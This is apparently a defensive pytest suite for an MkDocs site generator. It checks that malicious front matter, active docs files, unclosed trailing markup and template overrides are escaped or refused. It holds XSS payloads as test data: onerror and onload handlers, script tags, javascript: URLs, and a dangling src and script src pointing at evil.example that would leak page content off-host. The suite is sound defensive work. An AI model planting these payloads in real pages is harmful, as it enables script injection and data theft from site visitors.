"""Hostile hand-written pages and files in docs/ (issue 20, round three), each an attack built
with the real CLI and real MkDocs: front matter the theme prints, files that would replace the
theme's or run in the browser, markup left open at a page's end, and the whole-page check after
the template."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator.check.page_guard import page_problems
from generator.load.docsfiles import docs_file_problem
from generator.load.frontmatter import (
    front_matter_problems,
    key_line,
    markup_in_text,
    plain_text,
    safe_front_matter,
)
from tests.conftest import (
    build_project,
    build_without_docs_check,
    copy_project,
    explainer_build_env,
    run_explainer,
)

PAYLOAD = "About <img src=x onerror=alert(1)> & Q&A"
SUBTITLE = 'Sub <b onmouseover="alert(2)">bold</b>'
DESCRIPTION = 'Says "<script>alert(3)</script>"'


def front(**fields: str) -> str:
    import json

    return "---\n" + "".join(f"{k}: {json.dumps(v)}\n" for k, v in fields.items()) + "---\n"


def handlers(html: str) -> list[str]:
    doc = BeautifulSoup(html, "html.parser")
    return [f"<{t.name} {a}>" for t in doc.find_all(True) for a in t.attrs
            if a.lower().startswith("on")]


# ---- the rules (generator/load/frontmatter.py, docsfiles.py) --------------------------------

def test_front_matter_rules() -> None:
    meta = {"title": PAYLOAD, "icon": 'material/home"><img src=x onerror=alert(1)>',
            "status": "new onmouseover=x", "hide": ["toc", "<b>"], "template": "redirect.html",
            "subtitle": ["a", "b"], "kind": "page"}
    assert {k for k, _ in front_matter_problems(meta)} == {"icon", "status", "hide", "template",
                                                          "subtitle"}
    assert front_matter_problems({"title": "x", "icon": "fontawesome/brands/github",
                                  "status": "new", "hide": ["navigation", "toc"]}) == []
    safe = safe_front_matter({"title": PAYLOAD, "extra": {"list": ["<i>"]}, "n": 3})
    assert str(safe["title"]) == "About &lt;img src=x onerror=alert(1)&gt; &amp; Q&amp;A"
    assert safe["extra"] == {"list": ["&lt;i&gt;"]} and safe["n"] == 3
    assert plain_text(safe["title"]) == PAYLOAD
    assert safe_front_matter(safe) == safe, "escaped once, however often it runs"
    assert markup_in_text({"title": PAYLOAD, "subtitle": "plain"}) == ["title"]
    assert key_line("---\ntitle: a\nicon: b\n---\nicon: c\n", "icon") == 3


@pytest.mark.parametrize("path", ["a.html", "x/b.HTM", "c.svg", "d.js", "e.mjs", "f.xml",
                                  "g.wasm", "h.xhtml", "i.tar.js"])
def test_active_file_types_are_refused(path: str) -> None:
    assert docs_file_problem(path) is not None


@pytest.mark.parametrize("path", ["assets/javascripts/bundle.a5f9d56c.min.js.png",
                                  "assets/explainer/x.css", "charts/p.json", "data/facts.csv",
                                  "pagefind/pagefind.js.txt", "feed.json", "sitemap.xml.gz"])
def test_paths_the_site_publishes_are_reserved(path: str) -> None:
    assert docs_file_problem(path) is not None


def test_ordinary_docs_files_pass() -> None:
    for path in ("about.md", "assets/images/logo.png", "stylesheets/site.css", "a/b.pdf"):
        assert docs_file_problem(path) is None, path
    assert docs_file_problem("charts.md", "charts/index.html") is not None


# ---- built sites -----------------------------------------------------------------------------

@pytest.fixture(scope="module")
def front_matter_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_project(tmp_path_factory.mktemp("frontmatter") / "project")
    (root / "docs" / "about.md").write_text(
        front(title=PAYLOAD, subtitle=SUBTITLE, description=DESCRIPTION,
              author="<img src=x onerror=alert(4)>") + "\n# About\n\nText.\n", "utf-8")
    return build_project(root)


@pytest.mark.slow
def test_front_matter_is_printed_as_text_on_every_page(front_matter_site: Path) -> None:
    """Attack: `title: About <img src=x onerror=alert(1)>` (and subtitle, description) in a docs
    page; Material prints them raw in every page's navigation. Observed: `explainer build`
    succeeds, no page has an event handler, and the reader sees the title as written."""
    pages = sorted(front_matter_site.rglob("*.html"))
    assert len(pages) >= 10
    for page in pages:
        html = page.read_text("utf-8")
        assert handlers(html) == [], page
        assert page_problems(html) == [], page
    home = BeautifulSoup((front_matter_site / "index.html").read_text("utf-8"), "html.parser")
    nav_texts = [" ".join(a.get_text().split()) for a in home.select("nav a")]
    assert any(PAYLOAD in t for t in nav_texts), nav_texts
    assert any("Sub <b onmouseover=\"alert(2)\">bold</b>" in t for t in nav_texts), nav_texts
    about = BeautifulSoup((front_matter_site / "about" / "index.html").read_text("utf-8"),
                          "html.parser")
    assert about.head.title.get_text() == f"{PAYLOAD} - Explainers"  # escaped once, not twice
    assert about.head.find("meta", attrs={"name": "description"})["content"] == DESCRIPTION
    assert about.head.find("meta", attrs={"name": "author"})["content"] == \
        "<img src=x onerror=alert(4)>"


def write_page(root: Path, name: str, text: str) -> None:
    (root / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
    (root / "docs" / name).write_text(text, "utf-8")


@pytest.mark.slow
@pytest.mark.parametrize("field, value, line", [
    ("icon", 'material/home"><img src=x onerror=alert(1)>', "icon:"),
    ("icon", "material/no-such-icon-here", "no icon of the theme"),
    ("status", "new<script>alert(1)</script>", "status:"),
    ("template", "redirect.html", "template:"),
])
def test_front_matter_names_are_refused_at_build(tmp_path: Path, field: str, value: str,
                                                 line: str) -> None:
    """Attack: an icon/status with markup (today: TemplateNotFound, an internal error) or a
    template chosen by the page. Observed: exit 1, `docs/about.md:3:1: error: ...`, no trace."""
    root = copy_project(tmp_path / "project")
    write_page(root, "about.md", front(title="About", **{field: value}) + "\n# About\n")
    result = run_explainer(root, "build")
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "docs/about.md:3:1: error:" in out and line in out, out
    assert "Traceback" not in out and "TemplateNotFound" not in out


@pytest.mark.slow
def test_front_matter_escaped_in_a_build_shared_with_a_second_process(tmp_path: Path) -> None:
    """The same attack on 70 docs pages: a build of >= 64 pages converts every other page in a
    forked child (twocores.py), which runs on_page_markdown there and hands `meta` back."""
    root = copy_project(tmp_path / "project")
    for i in range(70):
        write_page(root, f"p/page{i:02d}.md",
                   front(title=f"{PAYLOAD} {i}", subtitle=SUBTITLE) + f"\n# Page {i}\n")
    site = tmp_path / "out"
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "-d", str(site)],
                            cwd=root, capture_output=True, text=True, timeout=300,
                            env=explainer_build_env())  # mkdocs logs the share (INFO)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "a second process converted" in result.stdout + result.stderr
    for i in range(70):
        html = (site / "p" / f"page{i:02d}" / "index.html").read_text("utf-8")
        assert handlers(html) == [], i
        doc = BeautifulSoup(html, "html.parser")
        assert doc.head.title.get_text() == f"{PAYLOAD} {i} - Explainers"
        assert f"{PAYLOAD} {i}" in " ".join(doc.select_one("nav").get_text().split())


@pytest.mark.slow
def test_docs_files_that_would_run_or_replace_theme_files_are_refused(tmp_path: Path) -> None:
    """Attack: docs/assets/javascripts/bundle.<hash>.min.js (Material's bundle, loaded by every
    page), an .html, an .svg and a replaced theme image in docs/. Observed: exit 1, each file
    named with the fix, and the previous site left as it was."""
    root = copy_project(tmp_path / "project")
    site = build_project(root)
    bundle = next((site / "assets" / "javascripts").glob("bundle.*.min.js"))
    before = bundle.read_bytes()
    write_page(root, f"assets/javascripts/{bundle.name}", "alert(document.cookie)\n")
    write_page(root, "x/evil.html", "<script>alert(1)</script>\n")
    write_page(root, "pic.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    write_page(root, "assets/images/favicon.png", "not the theme's")
    write_page(root, "assets/images/logo.png", "a picture of our own")  # allowed
    result = run_explainer(root, "build")
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    # explainer check (run first) names what it knows without the theme's file list ...
    for name in (f"docs/assets/javascripts/{bundle.name}", "docs/x/evil.html", "docs/pic.svg"):
        assert f"{name}:1:1: error:" in out, (name, out)
    assert "docs/assets/images/logo.png" not in out
    assert bundle.read_bytes() == before, "the previous site was left as it was"
    # ... and the build, a file of the theme's
    for name in (f"assets/javascripts/{bundle.name}", "x/evil.html", "pic.svg"):
        (root / "docs" / name).unlink()
    result = run_explainer(root, "build")
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "docs/assets/images/favicon.png: error:" in out, out
    assert "docs/assets/images/logo.png" not in out


OPEN_END = {
    "open-tag": ("<div><img src=x onerror=alert(1)//", "onerror"),
    "dangling-src": ('<p>Pay <img src="https://evil.example/?', "evil.example"),
    "open-textarea": ("<textarea>", "<textarea"),
    "open-title": ("<title>", "<title>T"),
}


@pytest.mark.slow
def test_markup_left_open_at_a_page_end(tmp_path: Path) -> None:
    """Attack: a docs page ending in an incomplete tag (it would close on the template's `>`
    and run), a dangling `src="https://host/?` (the rest of the page sent off-host) or an open
    raw-text element. Observed: the strict build fails naming the page; a non-strict build
    publishes the page with the tail cut and the template's markup intact after it."""
    root = copy_project(tmp_path / "project")
    for name, (tail, _gone) in OPEN_END.items():
        write_page(root, f"{name}.md", f"# {name}\n\nText stays.\n\n{tail}")
    result = run_explainer(root, "build")
    out = result.stdout + result.stderr
    assert result.returncode == 1
    for name in OPEN_END:  # explainer check, run first, names each page at the open markup
        assert f"docs/{name}.md:5:" in out, (name, out)
    # The guard under it, reached with the check of docs/ switched off: the strict build fails
    # naming each page, a non-strict one publishes them cut.
    result = build_without_docs_check(root, tmp_path / "strict", "--strict")
    out = result.stdout + result.stderr
    assert result.returncode == 1
    for name in OPEN_END:
        assert f"removed unsafe HTML from {name}.md" in out, (name, out)
    done = build_without_docs_check(root, tmp_path / "out", "--no-strict")
    assert done.returncode == 0, done.stderr
    for name, (_tail, gone) in OPEN_END.items():
        html = (tmp_path / "out" / name / "index.html").read_text("utf-8")
        doc = BeautifulSoup(html, "html.parser")
        assert gone not in html, name
        assert page_problems(html) == [], name
        assert "Text stays." in doc.find("article").get_text()
        assert doc.find("footer", class_="explainer-footer") is not None, name


@pytest.mark.slow
def test_the_finished_page_is_checked_after_the_template(tmp_path: Path) -> None:
    """What the theme prints around the content is judged too: a template override (code, here
    standing in for any way markup reaches the page outside the content) that puts an event
    handler into every page makes the build fail with the page named, not publish."""
    root = copy_project(tmp_path / "project")
    overrides = root / "overrides"
    overrides.mkdir()
    (overrides / "main.html").write_text(
        '{% extends "base.html" %}{% block announce %}<img src=x onerror=alert(1)>'
        "{% endblock %}", "utf-8")
    config = (root / "mkdocs.yml").read_text("utf-8")
    (root / "mkdocs.yml").write_text(config.replace("  name: material\n",
                                                    "  name: material\n  custom_dir: overrides\n"),
                                     "utf-8")
    result = run_explainer(root, "build")
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "would run script or load from another host" in out and "onerror" in out, out


def test_page_check_finds_what_the_theme_never_prints(example_site: Path) -> None:
    """The whole-page check on real pages: clean as built; each kind of injected markup found."""
    html = (example_site / "index.html").read_text("utf-8")
    assert page_problems(html) == []
    nav = '<span class="md-ellipsis">'
    assert nav in html
    for payload, found in [
        ("<img src=x onerror=alert(1)>", "event handler"),
        ('<script src="https://evil.example/x.js"></script>', "another host"),
        ('<img src="https://evil.example/p.png">', "another host"),
        ('<link rel="stylesheet" href="//evil.example/x.css">', "//evil.example"),
        ('<a href="javascript:alert(1)">x</a>', "not http(s)"),
        ('<iframe src="data/facts.csv"></iframe>', "<iframe>"),
        ('<div style="position:fixed;inset:0">x</div>', "allow-list"),
        ('<a href="#" ping="https://evil.example/p">x</a>', "report"),
    ]:
        problems = page_problems(html.replace(nav, nav + payload, 1))
        assert any(found in p for p in problems), (payload, problems)
    article = '<article class="md-content__inner md-typeset">'
    assert article in html
    inline = page_problems(html.replace(article, article + "<script>alert(1)</script>", 1))
    assert inline == ["<script> in the page's content"]


@pytest.mark.slow
def test_hosts_the_configuration_names_are_the_sites_own_choice(tmp_path: Path) -> None:
    """mkdocs.yml is code: Material's fonts (`theme.font`) and an absolute `extra_javascript`
    load from other hosts by the maintainer's choice, and the whole-page check lets them be."""
    root = copy_project(tmp_path / "project")
    config = (root / "mkdocs.yml").read_text("utf-8")
    config = config.replace("  font: false\n", "  font:\n    text: Roboto\n")
    config += "\nextra_javascript:\n  - https://cdn.example.org/widget.js\n"
    (root / "mkdocs.yml").write_text(config, "utf-8")
    site = build_project(root)
    html = (site / "index.html").read_text("utf-8")
    assert "https://fonts.googleapis.com/" in html
    assert '<script src="https://cdn.example.org/widget.js">' in html
    assert page_problems(html) != [], "without the configuration's hosts, they are found"
